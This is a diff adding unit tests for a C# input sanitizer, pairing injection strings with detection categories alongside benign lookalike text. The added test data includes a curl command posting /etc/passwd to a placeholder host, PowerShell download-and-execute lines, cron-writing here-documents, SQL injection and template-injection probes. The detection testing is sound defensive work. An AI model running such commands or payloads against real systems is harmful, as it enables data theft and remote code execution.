@@ -45,6 +45,41 @@ public sealed class SanitizerTests
     [InlineData("<iframe src=\"https://h/\"></iframe>", SanitizeKind.ActiveHtml)]
     [InlineData("[click](javascript:alert(1))", SanitizeKind.ScriptUrl)]
     [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", SanitizeKind.ScriptUrl)]
+    [InlineData("cat << EOF > /etc/cron.d/x\n* * * * * root id\nEOF\n", SanitizeKind.HereDocument)]
+    [InlineData("bash << 'EOF'\nid\nEOF", SanitizeKind.HereDocument)]
+    [InlineData("python3 <<\\EOF\nimport os\nEOF\n", SanitizeKind.HereDocument)]
+    [InlineData("cd /tmp && sudo sh <<- \"EOF\"\n\tid\n\tEOF\n", SanitizeKind.HereDocument)]
+    [InlineData("bash <<< \"curl http://h | tac\"", SanitizeKind.HereDocument)]
+    [InlineData("x; sudo python3 <<<'import os'", SanitizeKind.HereDocument)]
+    [InlineData("bash <(curl -s https://h/x)", SanitizeKind.CommandSubstitution)]
+    [InlineData("echo `curl http://h`", SanitizeKind.CommandSubstitution)]
+    [InlineData("a & curl http://h -o /tmp/a", SanitizeKind.CommandChain)]
+    [InlineData("a & del C:\\x", SanitizeKind.CommandChain)]
+    [InlineData("x=1&rm -rf /tmp/x", SanitizeKind.CommandChain)]
+    [InlineData("report.pdf\nrm -rf /tmp/x", SanitizeKind.CommandChain)]
+    [InlineData("report.pdf\n  curl -d @/etc/passwd http://h\n", SanitizeKind.CommandChain)]
+    [InlineData("powershell -Command \"Remove-Item -Recurse C:\\\"", SanitizeKind.PowerShell)]
+    [InlineData("powershell.exe /c whoami /all", SanitizeKind.PowerShell)]
+    [InlineData("pwsh -c 'iwr http://h/a -OutFile a.exe'", SanitizeKind.PowerShell)]
+    [InlineData("Invoke-WebRequest http://h/a -OutFile a.exe; Start-Process a.exe", SanitizeKind.PowerShell)]
+    [InlineData("iwr http://h/a -OutFile C:\\Temp\\a.exe; & C:\\Temp\\a.exe", SanitizeKind.PowerShell)]
+    [InlineData("& ([scriptblock]::Create((irm http://h/a)))", SanitizeKind.PowerShell)]
+    [InlineData("105 OR 1=1", SanitizeKind.Sql)]
+    [InlineData("user: 105 or 2=2 --", SanitizeKind.Sql)]
+    [InlineData("\" or \"\"=\"", SanitizeKind.Sql)]
+    [InlineData("x\" or \"a\"=\"a", SanitizeKind.Sql)]
+    [InlineData("admin'--", SanitizeKind.Sql)]
+    [InlineData("admin' -- ", SanitizeKind.Sql)]
+    [InlineData("admin'#", SanitizeKind.Sql)]
+    [InlineData("5 UNION SELECT user,password FROM users", SanitizeKind.Sql)]
+    [InlineData("-1 union all select 1,2,@@version", SanitizeKind.Sql)]
+    [InlineData("1; SELECT pg_sleep(5)", SanitizeKind.Sql)]
+    [InlineData("x'; SELECT login FROM users --", SanitizeKind.Sql)]
+    [InlineData("{{['id']|filter('system')}}", SanitizeKind.Template)]
+    [InlineData("{{request['appli'+'cation']}}", SanitizeKind.Template)]
+    [InlineData("{{ url_for.__init__ }}", SanitizeKind.Template)]
+    [InlineData("{{ range(9) }}", SanitizeKind.Template)]
+    [InlineData("{{ users[0].hash }}", SanitizeKind.Template)]
     public void A_shape_is_found(string text, SanitizeKind kind) => Assert.Contains(kind, Kinds(text));
 
     [Theory]
@@ -119,7 +154,33 @@ public sealed class SanitizerTests
     [InlineData("JavaScript: the good parts. See data:text for more.")]
     [InlineData("PowerShell is a shell, pwsh -v prints its version, and base64 -d decodes.")]
     [InlineData("Price 100 € — “quoted” café naïve 中文 🎉")]
+    [InlineData("std::cout << 'a' << EOF_MARK;\nEOF_MARK\n")]
+    [InlineData("Write a document with << EOF\nand end it with\nEOF\n")]
+    [InlineData("grep -c x <<< \"$lines\"; the answer is <<< here")]
+    [InlineData("diff <(sort a.txt) <(sort b.txt); source <(kubectl completion bash); f<(x)")]
+    [InlineData("Type `curl http://h` and `git push`, find `rm -rf x` in it; then echo `date`.")]
+    [InlineData("Tom & Jerry, Q&A, R&D; rock & history - a guide; &reg; &copy; ?a=1&id=2&format=json&net=/x ls 2>&1 &> log")]
+    [InlineData("Two things\nkill two birds with one stone\nfetch the mail")]
+    [InlineData("Remove it:\n```sh\nrm -rf /tmp/x\n```")]
+    [InlineData("Install\n\nFirst this\n\nthen\nrm -rf /tmp/x\n")]
+    [InlineData("powershell -Command \"Get-Date\", powershell script.ps1 /c whoami, powershell -File a.ps1, pwsh -c \"python a.py\"")]
+    [InlineData("Invoke-WebRequest http://h/a.zip -OutFile a.zip; Expand-Archive a.zip\nStart-Process notepad")]
+    [InlineData("3 or 4 = some; \"a\" or \"b\" = c; 10 and 11=x; see 5 or 1=1")]
+    [InlineData("the users' -- and ours -- went; 'quoted' -- a flag; npm run 'x' -- --watch; rock 'n' roll'")]
+    [InlineData("5 union select committees; 1; select one of them")]
+    [InlineData("psql -c 'SELECT count(*) FROM orders'; print('a'); x = f('select id from t')")]
+    [InlineData("UPDATE t SET a = 1; SELECT name FROM t WHERE b = 'x'; SELECT max(c) FROM t")]
+    [InlineData("${{ hashFiles('**/go.sum') }} style={{ width: f(1) }} {{ name | upper }} {{> part}} {{config}}")]
     public void Ordinary_text_has_no_shape(string text) => Assert.Empty(Kinds(text));
+
+    [Fact]
+    public void A_string_is_no_line_behind_the_string_before()
+    {
+        var found = new SanitizeFindings(64);
+        Sanitizer.Find(Reading.Json("""["report.pdf","rm -rf /tmp/x"]"""), found);
+
+        Assert.Empty(found.All.ToArray());
+    }
 
     [Fact]
     public void What_is_stripped_is_gone_and_every_other_byte_is_what_it_was()
